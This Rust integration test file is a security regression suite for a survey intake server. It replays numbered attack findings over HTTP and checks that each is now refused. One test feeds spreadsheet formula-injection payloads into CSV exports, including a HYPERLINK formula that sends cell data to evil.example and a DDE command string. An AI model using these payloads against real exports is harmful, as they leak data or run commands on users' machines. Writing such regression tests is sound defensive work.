//! The break-in suite: each numbered finding of the attack on the centre (issue "The centre on
//! the open internet"), reproduced against a real intake over real HTTP, and now refused. Each
//! test names its item. The older attacks (district scoping, CSRF, fixation, injection, every
//! malformed frame) stay in `web.rs` and `http_api.rs`.

mod support;

use reqwest::{header, StatusCode};
use support::{pages::*, TestServer};
use sync_protocol::{
    api::{self, EnrollRequest},
    keys::{Base64Bytes, DeviceKey, PublicKey},
    receipt::OutcomeStatus,
    EventBody,
};

/// A ministry session with the key stored under [`PASSPHRASE`]; returns (session, CSRF token).
async fn ministry_with_key(server: &TestServer) -> (String, String) {
    server.intake.store_ministry_key(&intake::demo::fixed_ministry_key(), PASSPHRASE).unwrap();
    let session = log_in(server, "bonv", MINISTRY_PASSWORD).await.unwrap();
    let csrf = hidden_csrf(&get(server, "/ministry/index", &session).await.text().await.unwrap());
    (session, csrf)
}

async fn post_form(server: &TestServer, path: &str, session: &str, form: &[(&str, &str)]) -> reqwest::Response {
    client().post(format!("{}{path}", server.base)).header(header::COOKIE, format!("fp_session={session}")).form(form).send().await.unwrap()
}

/// Item 1: one tablet's well-formed but undecryptable sheet used to stop the index and both
/// exports for everybody. Now it is listed by household, enumerator and device, alerted once,
/// and left out of the figures; everything else computes.
#[tokio::test(flavor = "multi_thread")]
async fn item_1_an_undecryptable_sheet_is_set_aside_and_named_and_the_index_still_computes() {
    let server = setup().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let hs: Vec<(String, String)> = server.households("enum-dh-p2").into_iter().take(2).collect();
    let mut hostile = vec![1u8; 32];
    hostile.extend((0..200).map(|_| rand::random::<u8>()));
    let mut events = Vec::new();
    for h in &hs {
        events.extend([device.distributed(h), device.collected(h), device.transcribed(h)]);
    }
    events.push(verified_form(&server, &device, &hs[0], 0));
    events.push(device.verified_with(&hs[1], Base64Bytes(hostile)));
    let batch = device.next_batch(events);
    assert_eq!(server.post_frame(batch.to_frame()).await.0, 201);

    let (session, csrf) = ministry_with_key(&server).await;
    let form = [("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)];
    for _ in 0..2 {
        let page = post_form(&server, "/ministry/index", &session, &form).await;
        assert_eq!(page.status(), StatusCode::OK);
        let html = page.text().await.unwrap();
        assert!(html.contains("1 phiếu không mở được"), "{html}");
        let listed = &html[html.find("id=\"unopenable\"").unwrap()..];
        assert!(listed.contains(&hs[1].0) && listed.contains(&hs[1].1) && listed.contains(&device.id.to_string()));
        let name = &server.campaign.enumerators.iter().find(|e| e.id == "enum-dh-p2").unwrap().name;
        assert!(listed.contains(name.as_str()), "the enumerator by name: {listed}");
    }
    let json: serde_json::Value = post_form(&server, "/api/ministry/index", &session, &form).await.json().await.unwrap();
    assert_eq!(json["index"]["national"]["forms"], 1, "the good sheet counts, the bad one does not");
    assert_eq!(json["unopenable"][0]["household"], hs[1].0.as_str());
    for path in ["/ministry/answers.csv", "/ministry/answers.xlsx", "/ministry/index.csv"] {
        let r = post_form(&server, path, &session, &form).await;
        assert_eq!(r.status(), StatusCode::OK, "{path}: {}", r.text().await.unwrap_or_default());
    }
    let csv = post_form(&server, "/ministry/answers.csv", &session, &form).await.text().await.unwrap();
    assert!(csv.lines().any(|l| l.starts_with(&format!("{},{}", hs[1].0, hs[1].1)) && l.contains("KHÔNG MỞ ĐƯỢC")), "{csv}");
    let alerts: Vec<_> = server.intake.store.alerts().unwrap().into_iter().filter(|a| a.kind == "sealed_answers_unopenable").collect();
    assert_eq!(alerts.len(), 1, "one alert, however often the index is computed");
    assert_eq!((alerts[0].device, alerts[0].enumerator.as_deref()), (Some(device.id), Some("enum-dh-p2")));
}

/// Item 2: free text starting with `=`, `+`, `-`, `@`, tab or CR came out of `answers.csv` as a
/// live formula. Now such a cell starts with an apostrophe.
#[tokio::test(flavor = "multi_thread")]
async fn item_2_answers_csv_carries_no_live_formula() {
    let server = setup().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let form = forms::sipas_2024();
    let text_question = form.questions.iter().find(|q| matches!(q.accepts, forms::load::Accepts::Text { .. }) && q.relevant.is_none()).unwrap().id.clone();
    let payloads = ["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tthẻ", "\rxuống dòng"];
    let hs: Vec<(String, String)> = server.households("enum-dh-p2").into_iter().take(payloads.len()).collect();
    let mut events = Vec::new();
    for (h, payload) in hs.iter().zip(payloads) {
        let mut answers = forms::sample::complete_answers(&form, 0);
        answers.insert(text_question.clone(), serde_json::json!(payload));
        let sheet = sync_protocol::seal::AnswerSheet { form: form.reference(), household: h.0.clone(), serial: h.1.clone(), answers };
        let sealed = sync_protocol::seal::seal(&server.ministry.public(), &sheet, &form.question_order(), &mut rand::rngs::OsRng).unwrap();
        events.extend([device.distributed(h), device.collected(h), device.transcribed(h), device.verified_with(h, Base64Bytes(sealed))]);
    }
    let batch = device.next_batch(events);
    assert_eq!(server.post_frame(batch.to_frame()).await.0, 201);
    let (session, csrf) = ministry_with_key(&server).await;
    let csv = post_form(&server, "/ministry/answers.csv", &session, &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)]).await.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    let mut seen = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!live, "a live formula in answers.csv: {cell:?}");
            seen += payloads.iter().filter(|p| cell == format!("'{p}")).count();
        }
    }
    assert_eq!(seen, payloads.len(), "every payload is kept, made inert:\n{csv}");
}

/// Item 11a: an Ed25519 key of small order (the identity point) was accepted at enrollment.
#[tokio::test(flavor = "multi_thread")]
async fn item_11a_a_small_order_device_key_is_refused_at_enrollment() {
    let server = TestServer::start().await;
    let mut identity = [0u8; 32];
    identity[0] = 1;
    assert!(PublicKey::from_bytes(&identity).is_err());
    let body = serde_json::json!({ "code": server.code("enum-dh-p2"), "public_key": sync_protocol::keys::b64(&identity), "label": "x" });
    let r = server.http.post(format!("{}{}", server.base, api::PATH_ENROLL)).json(&body).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    // The code is still good for a real device.
    let key = DeviceKey::generate(&mut rand::rngs::OsRng);
    let real = EnrollRequest { code: body["code"].as_str().unwrap().into(), public_key: key.public(), label: "tablet".into() };
    assert_eq!(server.http.post(format!("{}{}", server.base, api::PATH_ENROLL)).json(&real).send().await.unwrap().status(), StatusCode::CREATED);
}

/// Item 11b: a first keying carrying sealed answers in a campaign that verifies
/// transcriptions was accepted, and then exported as if verified.
#[tokio::test(flavor = "multi_thread")]
async fn item_11b_answers_on_a_first_keying_are_refused_where_keyings_are_verified() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let h = server.households("enum-dh-p2")[0].clone();
    let skipping = device.event(&h, EventBody::FormTranscribed { form: "sipas-2024@1".into(), sealed_answers: Some(device.sealed(&h)), keying_seconds: 90 });
    let batch = device.next_batch(vec![device.distributed(&h), device.collected(&h), skipping]);
    let (status, body) = server.post_frame(batch.to_frame()).await;
    assert_eq!(status, 201);
    let outcome = &device.outcomes(&body, &batch, 1)[2];
    assert_eq!((outcome.status, outcome.code.as_deref()), (OutcomeStatus::Rejected, Some("answers_unexpected")));
    assert_eq!(server.status(&h.0), "collected");
    assert!(server.intake.store.sealed_forms().unwrap().is_empty(), "nothing to export as verified");
}

/// Item 11c: a second replacement in one village inside one batch was refused ("no reserve
/// household left") although reserves remained.
#[tokio::test(flavor = "multi_thread")]
async fn item_11c_two_replacements_in_one_batch_take_consecutive_reserves() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-gl-ga").await;
    let hs = server.households("enum-gl-ga");
    let reserve = server.reserve("gl-ga-an");
    assert!(reserve.len() >= 2);
    let batch = device.next_batch(vec![
        device.outcome(&hs[0], sync_protocol::event::VisitOutcome::Refused),
        device.event(&hs[0], EventBody::HouseholdReplaced { replacement: reserve[0].0.clone() }),
        device.outcome(&hs[1], sync_protocol::event::VisitOutcome::Refused),
        device.event(&hs[1], EventBody::HouseholdReplaced { replacement: reserve[1].0.clone() }),
    ]);
    let (status, body) = server.post_frame(batch.to_frame()).await;
    assert_eq!(status, 201);
    let codes: Vec<Option<String>> = device.outcomes(&body, &batch, 1).into_iter().map(|o| o.code).collect();
    assert_eq!(codes, [None, None, None, None]);
    assert_eq!((server.status(&reserve[0].0), server.status(&reserve[1].0)), ("assigned".to_string(), "assigned".to_string()));
}

/// Item 11d: a revoked device retrying a batch accepted before the revocation got 403 and
/// raised a new alert on every retry. Now it gets its stored receipt; new work is still refused.
#[tokio::test(flavor = "multi_thread")]
async fn item_11d_a_revoked_device_retrying_accepted_work_gets_its_receipt_and_no_alert() {
    let server = TestServer::start().await;
    let mut device = server.enroll("enum-dh-p2").await;
    let h = server.households("enum-dh-p2")[0].clone();
    let accepted = device.next_batch(vec![device.distributed(&h)]);
    let (status, first) = server.post_frame(accepted.to_frame()).await;
    assert_eq!(status, 201);
    server.intake.store.revoke_device(device.id, "tablet stolen", chrono::Utc::now()).unwrap();
    for _ in 0..3 {
        let (status, again) = server.post_frame(accepted.to_frame()).await;
        assert_eq!((status, &again), (200, &first), "the same receipt");
        device.receipt(&again, &accepted, 1);
    }
    assert!(server.intake.store.alerts().unwrap().is_empty());
    let new_work = device.next_batch(vec![device.collected(&h)]);
    let (status, body) = server.post_frame(new_work.to_frame()).await;
    assert_eq!((status, support::error_code(&body).as_str()), (403, "device_revoked"));
    assert_eq!(server.intake.store.alerts().unwrap().len(), 1);
}
